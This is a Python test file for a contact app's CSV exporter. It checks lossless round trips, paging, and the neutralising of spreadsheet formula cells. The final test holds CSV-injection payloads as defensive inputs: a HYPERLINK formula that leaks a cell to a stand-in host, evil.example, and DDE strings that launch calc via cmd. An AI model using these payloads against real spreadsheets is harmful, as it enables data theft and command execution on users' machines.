"""CSV export: the import's columns, phones as submitted, and a lossless round trip."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from sqlalchemy.orm import Session

from sendline.importing.importer import ImportOptions, import_contacts
from sendline.store.contacts import Contacts
from sendline.store.exporter import STANDARD_COLUMNS, export_contacts
from tests.store.conftest import MakeAccount
from tests.store.test_import import DISCLOSURE, write_csv


def _export(session: Session, account_id: int) -> str:
    out = io.StringIO()
    export_contacts(session, account_id, out)
    return out.getvalue()


def test_it_handles_an_export_import_round_trip(
    session: Session, make_account: MakeAccount, tmp_path: Path
) -> None:
    a, b = make_account(), make_account()
    source = write_csv(
        tmp_path / "source.csv",
        [
            ["Email", "First", "Last", "Mobile", "Opt-in", "Tags", "Lists", "AGE", "SINCE"],
            [
                "ann@example.com",
                "Ann",
                "Lee",
                "(415) 892-1234",
                "yes",
                "vip",
                "News",
                "42",
                "2020-01-02",
            ],
            ["", "Bob", "", "+33 6 12 34 56 78", "no", "", "", "3.5", ""],
            ["cy@example.com", "Cy, Jr.", "O'Neil", "", "", "a;b", "News;Promo", "", ""],
        ],
    )
    mapping = [
        "First=first_name",
        "Last=last_name",
        "Mobile=phone",
        "Opt-in=consent",
        "AGE=AGE:number",
        "SINCE=SINCE:date",
    ]
    options = ImportOptions(mapping=mapping, disclosure=DISCLOSURE)
    assert import_contacts(session, a.id, source, options).created == 3
    session.commit()
    exported = _export(session, a.id)
    rows = list(csv.reader(io.StringIO(exported)))
    assert rows[0] == [*STANDARD_COLUMNS, "AGE", "SINCE"]
    assert rows[1] == [
        "ann@example.com",
        "Ann",
        "Lee",
        "(415) 892-1234",
        "yes",
        "vip",
        "News",
        "42",
        "2020-01-02",
    ]
    # A "+" phone is defused like any formula-like cell (csv_safety), and imports back as is.
    assert rows[2][3:5] == ["'+33 6 12 34 56 78", "no"]
    assert rows[3][5:7] == ["a;b", "News;Promo"]

    copy = tmp_path / "export.csv"
    copy.write_text(exported, encoding="utf-8")
    assert Contacts(session, a.id).resolve("+33612345678").phone == "+33 6 12 34 56 78"
    types = ImportOptions(mapping=["AGE=AGE:number", "SINCE=SINCE:date"], disclosure=DISCLOSURE)
    assert import_contacts(session, b.id, copy, types).created == 3
    session.commit()
    assert _export(session, b.id) == exported
    again = import_contacts(session, a.id, copy, ImportOptions(disclosure=DISCLOSURE))
    assert (again.created, again.updated, again.unchanged) == (0, 0, 3)


def test_it_handles_an_empty_account_and_many_pages(
    session: Session, make_account: MakeAccount, monkeypatch: object
) -> None:
    account = make_account()
    assert _export(session, account.id).strip() == ",".join(STANDARD_COLUMNS)
    contacts = Contacts(session, account.id)
    for i in range(7):
        contacts.create(email=f"u{i}@example.com", phone=f"415 892 12{i:02d}")
    session.commit()
    import sendline.store.exporter as exporter

    monkeypatch.setattr(exporter, "PAGE", 3)  # type: ignore[attr-defined]
    lines = _export(session, account.id).splitlines()
    assert len(lines) == 8
    assert [line.split(",")[0] for line in lines[1:]] == [f"u{i}@example.com" for i in range(7)]


def test_it_neutralises_formula_cells_in_the_export(
    session: Session, make_account: MakeAccount, tmp_path: Path
) -> None:
    account = make_account()
    contacts = Contacts(session, account.id)
    contacts.define_field("NOTE")
    contacts.define_field("SCORE", type="number")
    contacts.create(
        email="eve@example.com",
        first_name='=HYPERLINK("http://evil.example/?x="&A1,"click")',
        last_name="@SUM(1+1)*cmd|' /C calc'!A0",
        fields={"NOTE": "-2+3+cmd|' /C calc'!A0", "SCORE": -5},
        tags=["+tag"],
    )
    session.commit()
    [header, row] = list(csv.reader(io.StringIO(_export(session, account.id))))
    assert row[1] == """'=HYPERLINK("http://evil.example/?x="&A1,"click")"""
    assert row[2] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row[5] == "'+tag"
    assert row[header.index("NOTE")] == "'-2+3+cmd|' /C calc'!A0"
    assert row[header.index("SCORE")] == "-5"  # a number Sendline holds as a number
    copy = tmp_path / "export.csv"
    copy.write_text(_export(session, account.id), encoding="utf-8")
    b = make_account()
    import_contacts(
        session, b.id, copy, ImportOptions(mapping=["SCORE=SCORE:number", "NOTE=NOTE", "consent=-"])
    )
    back = Contacts(session, b.id).resolve("eve@example.com")
    assert back.first_name == """=HYPERLINK("http://evil.example/?x="&A1,"click")"""
